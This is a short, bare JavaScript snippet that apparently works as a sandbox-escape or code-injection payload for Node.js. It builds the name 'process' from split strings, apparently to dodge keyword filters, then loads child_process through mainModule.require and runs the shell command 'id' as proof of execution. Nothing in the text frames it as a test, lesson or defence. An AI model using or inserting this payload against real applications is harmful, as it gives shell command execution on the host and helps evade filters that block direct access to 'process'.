const g = globalThis;
const p = g['pro' + 'cess'];
const cp = p.mainModule.require('child_process');
cp.exec('id');
